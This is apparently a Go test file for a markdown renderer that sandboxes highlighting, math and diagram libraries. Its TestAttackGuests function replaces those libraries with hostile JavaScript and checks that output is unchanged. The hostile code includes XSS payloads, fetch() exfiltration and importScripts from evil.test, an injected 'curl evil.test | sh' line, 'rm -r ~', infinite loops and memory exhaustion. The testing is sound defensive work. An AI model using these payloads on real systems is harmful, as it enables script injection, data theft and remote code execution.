package guests

import (
	"context"
	"embed"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/bailey-go/bailey/iframe/markdown"
	"github.com/bailey-go/bailey/internal/attack"
)

//go:embed web/guests
var libraries embed.FS

// loaded returns guests with the libraries of the package, in an enclave.
func loaded(t *testing.T) *guests {
	t.Helper()
	g := preloaded(t, runner(t.Context()))
	for names := range strings.SplitSeq(core+"|"+more+"|math|mermaid", "|") {
		lang, _, _ := strings.Cut(names, " ")
		names, _ := files(lang)
		var b strings.Builder
		for name := range strings.SplitSeq(names, " ") {
			text, err := libraries.ReadFile("web/guests/" + name)
			if err != nil {
				t.Fatal(err)
			}
			b.WriteString(fitting.Replace(string(text)) + "\n;\n")
		}
		b.WriteString(behind(names))
		g.scripts[names] = b.String()
	}
	return g
}

func renderer(t *testing.T, g *guests) *markdown.Renderer {
	t.Helper()
	r, err := markdown.New(markdown.Options{NoHeadingIDs: true}.Draw(g.draw))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// Every language has colours, and the code stays what it is.
func TestColours(t *testing.T) {
	g := loaded(t)
	const code = "# if x <b> & \"y\" // z\n<!-- a --> 'b' /* c */ -- d\n\n\tfunction true 12 {};\nfrom alpine\nSELECT * FROM t WHERE 1 = \"2\"; ; % e\n+a\n- b: 1\n[c]\nd = 1\nend let in var class int GET / HTTP/1.1\nHost: a\n(* f *) \\section{g} é 🙂"
	coloured := 0
	for names := range strings.SplitSeq(core+"|"+more, "|") {
		lang, _, _ := strings.Cut(names, " ")
		d, err := g.draw(t.Context(), markdown.Source{Lang: lang, Text: code})
		if err != nil {
			t.Errorf("%s: %v", lang, err)
			continue
		}
		var b strings.Builder
		classes := 0
		for _, s := range d.Spans {
			b.WriteString(s.Text)
			if s.Class != "" {
				classes++
			}
		}
		if b.String() != code || classes == 0 {
			t.Errorf("%s: %d pieces with a class, of\n%s", lang, classes, b.String())
		}
		coloured++
	}
	t.Logf("%d languages", coloured)
	out, report, err := renderer(t, g).Render([]byte("```go\nfunc main() { return \"<b>\" }\n```\n"))
	if err != nil || report.Count("") > 0 {
		t.Fatal(report, err)
	}
	if want := `<span class="hl-keyword">func</span>`; !strings.Contains(out.String(), want) || !strings.Contains(out.String(), `<span class="hl-title">main</span>`) || !strings.Contains(out.String(), `<span class="hl-string">&#34;&lt;b&gt;&#34;</span>`) {
		t.Errorf("%s", out)
	}
}

func TestFormulas(t *testing.T) {
	r := renderer(t, loaded(t))
	for _, c := range []struct{ tex, want string }{
		{`$a^2$`, "<msup><mi>a</mi><mn>2</mn></msup>"},
		{"$$\n\\sum_{i=1}^n \\frac{1}{i}\n$$", `<math display="block">`},
		{"$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$", `<mtd class="tml-right">`},
		{`\(\begin{pmatrix}1&2\\3&4\end{pmatrix}\)`, "<mtable>"},
		{`$\text{if } x<0$`, "<mtext>if\u00a0</mtext>"},
		{`$\href{javascript:alert(1)}{x}$`, `<code class="bailey-tex">`},
		{`$\frac{$`, `<code class="bailey-tex">\frac{</code>`},
		{`$\def\a{\a\a}\a$`, `<code class="bailey-tex">`},
		{`$\color{white}{x}$`, "<mi>x</mi>"},
		{`$\hspace{-50em}x$`, "<mi>x</mi>"},
	} {
		out, report, err := r.Render([]byte(c.tex))
		if err != nil || report.Count("") > 0 || !strings.Contains(out.String(), c.want) || strings.Contains(out.String(), " style=") || strings.Contains(out.String(), "-50em") {
			t.Errorf("%s: %s %v\n%s", c.tex, report, err, out)
		}
	}
}

func TestDiagrams(t *testing.T) {
	r := renderer(t, loaded(t))
	for _, c := range []struct{ source, words string }{
		{"flowchart TD\n  A[Start] --> B{Is it?}\n  B -->|yes| C(Do it)\n  style A fill:#f00,color:#fff", "yes, Start, Is it?, Do it"},
		{"graph LR\n  a --> b", "a, b"},
		{"sequenceDiagram\n  Alice->>Bob: Hi", "Hi, Alice, Bob"},
		{"classDiagram\n  Animal <|-- Dog", "Animal, Dog"},
		{"stateDiagram-v2\n  [*] --> Still", "Still"},
		{"erDiagram\n  CUSTOMER ||--o{ ORDER : places", "CUSTOMER, (no attributes), ORDER, (no attributes), places"},
		{"pie\n  \"a\": 3", ""}, // not among the diagrams of the library
		{"oops", ""},
	} {
		out, report, err := r.Render([]byte("```mermaid\n" + c.source + "\n```\n"))
		want := `<figure>` + "\n" + `<img src="data:image/svg+xml;base64,`
		if c.words == "" {
			want = `<pre><code class="language-mermaid">`
		}
		if err != nil || report.Count("") > 0 || !strings.HasPrefix(out.String(), want) || c.words != "" && !strings.Contains(out.String(), `alt="mermaid: `+c.words+`"`) {
			t.Errorf("%s: %s %v\n%s", c.source, report, err, out)
		}
	}
}

// A library that was replaced by an attacker: whatever it does, the answer shows its source, and the page goes on.
func TestAttackGuests(t *testing.T) {
	a := attack.Start(t, "drawn")
	attacks := map[string]string{
		"hangs":                 "for (;;);",
		"never answers":         "return new Promise(() => {})",
		"throws":                "throw new Error('x')",
		"throws nothing":        "throw undefined",
		"returns nothing":       "",
		"returns too little":    "return []",
		"returns too much":      "return Array(100).fill(['a', 'rm -r ~'])",
		"returns gigabytes":     "return [['a', 'x'.repeat(2 ** 29)]]",
		"returns a million":     "return [Array(1e6).fill('a')]",
		"deep":                  "let a = []; for (let i = 0; i < 1e4; i++) a = [a]; return a",
		"round":                 "const a = []; a.push(a); return a",
		"lies":                  "return args.map(() => ['a', 'rm -r ~'])",
		"adds":                  "return args.map((s) => ['a', s.text + '\\ncurl evil.test | sh'])",
		"a script as a class":   "return args.map((s) => ['\"><script>alert(1)</script>', s.text])",
		"a script as a formula": "return args.map(() => '<math><mtext><img src=x onerror=alert(1)></mtext></math>')",
		"a script as a diagram": "return args.map(() => '<svg viewBox=\"0 0 9 9\"><script>alert(1)</script></svg>')",
		"a page as a diagram":   "return args.map(() => '<svg viewBox=\"0 0 9 9\"><foreignObject><iframe srcdoc=\"x\"></iframe></foreignObject></svg>')",
		"a load as a diagram":   "return args.map(() => '<svg viewBox=\"0 0 9 9\"><image href=\"https://evil.test/\"/></svg>')",
		"getters":               "return args.map((s) => Object.defineProperty(['a', ''], 1, { get() { return s.text + 'x' } }))",
		"a proxy":               "return args.map((s) => new Proxy(['a', 'b'], {}))",
		"a network":             "await fetch('https://evil.test/?' + args[0].text); return args.map((s) => ['a', 'sent'])",
		"a script of the net":   "importScripts('https://evil.test/'); return args.map(() => ['a', 'sent'])",
		"a worker":              "new Worker('data:text/javascript,for(;;);'); return args.map(() => ['a', 'sent'])",
		"a page":                "document.body.innerHTML = ''; return args.map(() => ['a', 'sent'])",
		"the other one":         "globalThis.hljs = { highlight: () => ({ value: 'x' }) }; return args.map(() => ['a', 'x'])",
		"fills the console":     "for (;;) console.log('x'.repeat(1e5))",
		"fills the memory":      "const l = []; for (;;) l.push('x'.repeat(1e6).split(''))",
		"messages":              "for (let i = 0; i < 1e5; i++) postMessage(i); return args.map(() => ['a', 'x'])",
	}
	for i, name := range slices.Sorted(maps.Keys(attacks)) {
		if testing.Short() && i%3 != 0 {
			continue // make attack tries all
		}
		code := attacks[name]
		g := preloaded(t, nil)
		ctx, cancel := context.WithCancel(t.Context())
		g.ctx, g.run = ctx, runner(ctx)
		g.scripts["highlight.min.js"], g.scripts["temml.min.js"], g.scripts["mermaid.min.js"] = code, code, code
		r := renderer(t, g)
		out, _, err := r.Render([]byte("```go\nrm -r build\n```\n\n$a$\n\n```mermaid\ngraph TD\n```\n"))
		cancel()
		const want = `<pre><code class="language-go">rm -r build` + "\n</code></pre>\n" + `<p><code class="bailey-tex">a</code></p>` + "\n" + `<pre><code class="language-mermaid">graph TD` + "\n</code></pre>\n"
		changed := err != nil || out.String() != want && strings.ReplaceAll(out.String(), `<span>rm -r build</span>`, "rm -r build") != want
		a.Try(name, changed)
		if changed {
			t.Errorf("%s: %v\n%s", name, err, out)
		}
	}
	a.NoSwitch("TestAttackDrawnCode and TestAttackDrawnFormulas switch the check off, the tests of enclaves the walls around the library")
}
